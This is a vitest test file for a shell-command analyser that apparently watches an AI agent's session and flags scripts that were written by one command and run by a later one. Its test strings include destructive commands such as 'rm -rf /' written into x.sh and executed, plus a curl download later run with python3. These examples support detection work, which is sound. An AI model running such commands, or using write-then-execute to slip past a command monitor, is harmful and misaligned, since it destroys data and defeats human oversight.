// Two-step evasions: a file written by one command and run by a later one is not trusted.
import { beforeAll, describe, expect, it } from 'vitest';
import { ShellAnalyzer } from './index.js';

let a: ShellAnalyzer;
beforeAll(async () => {
  a = await ShellAnalyzer.create();
});

const dynamic = (text: string, written: string[], cwd = '/home/agent') =>
  a
    .analyze(text, { home: '/home/agent', cwd, written: new Set(written) })
    .units.some((u) => u.kind === 'shell' && u.dynamic);

describe('files written earlier in the session', () => {
  it('reports what a command writes, as absolute paths', () => {
    const r = a.analyze(
      "printf 'rm -rf /' > x.sh; curl -o /tmp/y.py http://h/y; cp a /opt/z; tee -a ~/w.sh < q",
      {
        home: '/home/agent',
        cwd: '/srv',
      },
    );
    expect(r.written).toEqual(
      expect.arrayContaining(['/srv/x.sh', '/tmp/y.py', '/opt/z', '/home/agent/w.sh']),
    );
  });

  it.each([
    ['sh x.sh', ['/srv/x.sh'], '/srv'],
    ['bash /srv/x.sh', ['/srv/x.sh'], '/home/agent'],
    ['bash ./x.sh', ['/srv/x.sh'], '/srv'],
    ['. /tmp/env.sh', ['/tmp/env.sh'], '/srv'],
    ['source /tmp/env.sh', ['/tmp/env.sh'], '/srv'],
    ['python3 /tmp/y.py', ['/tmp/y.py'], '/srv'],
    ['sudo bash /tmp/x.sh', ['/tmp/x.sh'], '/srv'],
    ['docker exec app sh /tmp/x.sh', ['/tmp/x.sh'], '/srv'],
    ['/tmp/x.sh', ['/tmp/x.sh'], '/srv'],
    ['./x.sh --force', ['/srv/x.sh'], '/srv'],
    ['env /tmp/x.sh', ['/tmp/x.sh'], '/srv'],
    ["echo 'rm -rf /' > x.sh; chmod +x x.sh; ./x.sh", [], '/srv'],
  ])('%s after the session wrote the file is dynamic', (cmd, written, cwd) => {
    expect(dynamic(cmd, written, cwd)).toBe(true);
  });

  it.each([
    ['sh x.sh', ['/other/x.sh'], '/srv'],
    ['bash deploy.sh', ['/srv/x.sh'], '/srv'],
    ['cat /srv/x.sh', ['/srv/x.sh'], '/srv'],
    ['./build.sh', ['/srv/x.sh'], '/srv'],
    ['/usr/bin/ls -la', ['/srv/x.sh'], '/srv'],
  ])('%s is not dynamic when it runs no file the session wrote', (cmd, written, cwd) => {
    expect(dynamic(cmd, written, cwd)).toBe(false);
  });

  it('the same text is judged by the session it is in, not by the cache', () => {
    expect(dynamic('bash /tmp/k.sh', [])).toBe(false);
    expect(dynamic('bash /tmp/k.sh', ['/tmp/k.sh'])).toBe(true);
    expect(dynamic('bash /tmp/k.sh', [])).toBe(false);
  });

  it('an SFTP upload, rename or symlink reports the file it creates', () => {
    expect(
      a.analyzeFile(
        { kind: 'file', op: 'open-write', paths: ['bin/x.sh'], via: 'sftp' },
        { home: '/home/agent' },
      ).written,
    ).toEqual(['/home/agent/bin/x.sh']);
    expect(
      a.analyzeFile(
        { kind: 'file', op: 'rename', paths: ['/tmp/a', '/tmp/b.sh'], via: 'sftp' },
        { home: '/h' },
      ).written,
    ).toEqual(['/tmp/b.sh']);
    expect(
      a.analyzeFile({ kind: 'file', op: 'open-read', paths: ['/tmp/a'], via: 'sftp' }, { home: '/h' })
        .written,
    ).toBeUndefined();
  });
});
